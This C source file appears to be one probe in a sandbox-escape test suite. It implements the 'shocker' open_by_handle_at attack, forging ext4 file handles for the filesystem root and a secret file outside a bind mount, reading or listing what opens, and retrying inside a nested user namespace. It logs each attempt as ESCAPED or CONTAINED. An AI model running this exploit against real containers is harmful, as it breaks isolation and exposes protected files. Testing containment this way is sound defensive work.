/* Attack 4: open_by_handle_at ("shocker"): take a real handle, forge one
 * for the filesystem's root inode (ext4: 2, generation 0) and for a secret
 * file outside the bind (inode and generation given: a brute force that
 * succeeded), then open them through the bind mount. Also in a nested
 * user+mount namespace (where we hold CAP_DAC_READ_SEARCH).
 * usage: shocker FILE_IN_BIND SECRET_INO SECRET_GEN SECRET_TEXT */
#include "hostile.h"
#include <dirent.h>

static const char *secret_text;

static void probe_fd(const char *what, int fd) {
    char buf[4096];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    if (n >= 0) {
        buf[n] = 0;
        if (strstr(buf, secret_text)) { out("ESCAPED %s read the secret", what); return; }
        out("ESCAPED %s opened a forged handle (read %zd bytes)", what, n);
        return;
    }
    /* A directory: list it. */
    DIR *d = fdopendir(fd);
    if (!d) { out("ESCAPED %s opened a forged handle", what); return; }
    struct dirent *e;
    char names[1024] = "";
    while ((e = readdir(d))) {
        if (strlen(names) + strlen(e->d_name) + 2 < sizeof names) { strcat(names, e->d_name); strcat(names, " "); }
    }
    out("ESCAPED %s opened a forged directory handle: %s", what, names);
}

static void attack(const char *tag, const char *file, unsigned sino, unsigned sgen) {
    char w[128];
    struct { struct file_handle fh; unsigned char b[128]; } h;
    h.fh.handle_bytes = 128;
    int mnt = -1;
    snprintf(w, sizeof w, "name_to_handle_at-%s", tag);
    if (surface(w, name_to_handle_at(AT_FDCWD, file, &h.fh, &mnt, 0)) < 0) {
        /* Without a real handle, guess the ext4 format. */
        h.fh.handle_type = 1; /* FILEID_INO32_GEN */
        h.fh.handle_bytes = 8;
    } else {
        out("INFO handle type %d bytes %u", h.fh.handle_type, h.fh.handle_bytes);
    }
    int mfd = open(file, O_RDONLY);
    if (mfd < 0) { out("INFO open %s: %s", file, en(errno)); return; }
    /* The genuine handle (reachable file: not an escape if it opens). */
    snprintf(w, sizeof w, "open_by_handle_at-genuine-%s", tag);
    int fd = open_by_handle_at(mfd, &h.fh, O_RDONLY);
    if (fd >= 0) { out("OPENED %s", w); close(fd); } else out("CONTAINED %s %s", w, en(errno));
    unsigned *u = (unsigned *)h.fh.f_handle;
    struct { unsigned ino, gen; const char *name; } forged[] = {{2, 0, "root"}, {sino, sgen, "secret"}};
    for (int i = 0; i < 2; i++) {
        h.fh.handle_type = 1;
        h.fh.handle_bytes = 8;
        u[0] = forged[i].ino;
        u[1] = forged[i].gen;
        snprintf(w, sizeof w, "open_by_handle_at-forged-%s-%s", forged[i].name, tag);
        fd = open_by_handle_at(mfd, &h.fh, O_RDONLY);
        if (fd < 0) { out("CONTAINED %s %s", w, en(errno)); continue; }
        probe_fd(w, fd);
        close(fd);
    }
    close(mfd);
}

int main(int argc, char **argv) {
    if (argc < 5) return 2;
    secret_text = argv[4];
    unsigned ino = strtoul(argv[2], 0, 10), gen = strtoul(argv[3], 0, 10);
    uid_t uid = getuid();
    gid_t gid = getgid();
    attack("plain", argv[1], ino, gen);
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) {
        out("INFO unshare %s", en(errno));
    } else {
        map_self(uid, gid);
        attack("nested-userns", argv[1], ino, gen);
    }
    DONE();
    return 0;
}
